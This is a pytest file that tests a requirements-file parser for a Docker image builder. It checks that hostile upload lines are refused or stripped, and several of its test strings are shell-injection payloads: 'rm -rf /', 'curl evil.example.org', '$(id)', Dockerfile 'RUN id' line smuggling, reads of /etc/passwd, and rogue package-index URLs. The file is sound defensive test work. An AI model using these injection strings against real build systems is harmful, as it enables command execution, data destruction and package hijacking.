"""Uploads that want to get into the Dockerfile, the resolver's command line or its input."""

import pytest

from builders.bases import Base
from builders.dockerfile import render
from builders.errors import InvalidSpec
from builders.identity import Recipe
from builders.lock import Lock, LockedPackage, PackageFile
from builders.spec import parse_requirements

BASE = Base("python", "3.11.2", "weles-base/python:3.11.2", "sha256:" + "1" * 64)
RECIPE = Recipe("python/1", "sha256:" + "2" * 64)

REFUSED = [
    "--index-url https://evil.example.org/simple",
    "-i https://evil.example.org/simple",
    "--extra-index-url=https://evil.example.org",
    "--trusted-host evil.example.org",
    "--find-links /etc",
    "-r /etc/passwd",
    "-c /etc/passwd",
    "-e /",
    "--config-settings x=y",
    "numpy==1.26.4 --index-url https://evil.example.org",
    "numpy==1.26.4 --hash=sha256:aa --index-url https://evil.example.org",
    "numpy==1.26.4 --hash=sha256:aa -r /etc/passwd",
    "numpy==1.26.4; rm -rf /",
    "numpy==1.26.4 && curl evil.example.org",
    "numpy==1.26.4 | sh",
    "vim; curl evil",
    "numpy==$(id)",
    "numpy==`id`",
    "numpy==${HOME}",
    "$(id)==1",
    "numpy==1.26.4\\",
    "numpy==1.26.4 \\\nRUN id",
    "numpy==1.26.4\x00",
    "numpy==1.26.4\x0bRUN id",
    "numpy==1.26.4\x0cRUN id",
    "numpy==1.26.4\u2028RUN id",
    "numpy==1.26.4\u0085RUN id",
    "numpy==1.26.4\x1b[31m",
    "numpy==1.26.4\rRUN id",
    "num\u0440y==1.26.4",
    "nu\u212ay==1.26.4",
    "numpy==1.26.4\u017f",
    "numpy==\uff11.26.4",
    "numpy==1\u200b.26.4",
    "\u202enumpy==1.26.4",
    "../../etc/passwd",
    "numpy @ file:///etc/passwd",
    "numpy@git+https://evil.example.org/x.git",
    "numpy[$(id)]==1.26.4",
    "numpy[--index-url]==1",
    "-numpy==1",
    "numpy-==1",
    "numpy==1.26.4,==1.26.4.*",
    "numpy===1.26.4;anything",
    "numpy==" + "9" * 5000,
    "a" * 5000 + "==1",
    "a" * 129 + "==1",
    "a==1; " + "(" * 400 + "os_name == 'posix'" + ")" * 400,
    "a==1; python_version in " + "'" + "3.11 " * 150 + "'" + " or x",
    "weles-evil @ https://evil.example.org/x.whl",
]


@pytest.mark.parametrize("line", REFUSED, ids=ascii)
def test_it_is_refused_by_its_line(line):
    text = f"joblib==1.4.2\n{line}\nRUNNING==1\n" if not line.endswith("\\") else f"joblib==1.4.2\n{line}\nid\n"
    with pytest.raises(InvalidSpec) as caught:
        parse_requirements(text, version="3.11")
    problems = caught.value.problems
    assert {problem.line for problem in problems} <= {2, 3}
    for problem in problems:
        shown = problem.text + problem.reason
        assert shown.isprintable(), "what is shown back must not be able to forge a line of a log"
        assert len(problem.text) <= 200


HARMLESS = [
    ("weles @ https://evil.example.org/x.whl; rm", []),
    ("-e git+https://evil.example.org/$(id).git#egg=weles", []),
    ("# RUN id", []),
    ("numpy==1.26.4 # \\", ["numpy==1.26.4"]),
    ("numpy==1.26.4 --hash=sha256:$(id)", ["numpy==1.26.4"]),
    ("numpy==1.26.4 ; python_version >= '3'", ["numpy==1.26.4"]),
]


@pytest.mark.parametrize(("line", "kept"), HARMLESS, ids=lambda value: ascii(value)[:40])
def test_what_is_left_out_of_it_reaches_nothing(line, kept):
    parsed = parse_requirements(f"joblib==1.4.2\n{line}\n", version="3.11")
    assert [str(pin) for pin in parsed.spec.pins] == ["joblib==1.4.2", *kept]
    packages = tuple(
        LockedPackage(pin.name, pin.version, PackageFile(f"{pin.name}.whl", "ab" * 32, 1), "wheel")
        for pin in parsed.spec.pins
    )
    text = render(Lock("python", "3.11.2", "linux/x86_64", packages), BASE, RECIPE)
    assert "evil" not in text
    assert "$(" not in text
    assert "RUN id" not in text


def test_a_text_of_the_largest_size_is_refused_quickly():
    line = "a" * 500 + "==1;" + " " * 500
    with pytest.raises(InvalidSpec):
        parse_requirements("\n".join([line] * 1000), version="3.11")


def test_many_hashes_on_one_line_are_read_quickly():
    text = "numpy==1.26.4" + " --hash=sha256:aa" * 60_000
    assert len(parse_requirements(text, version="3.11").spec.pins) == 1
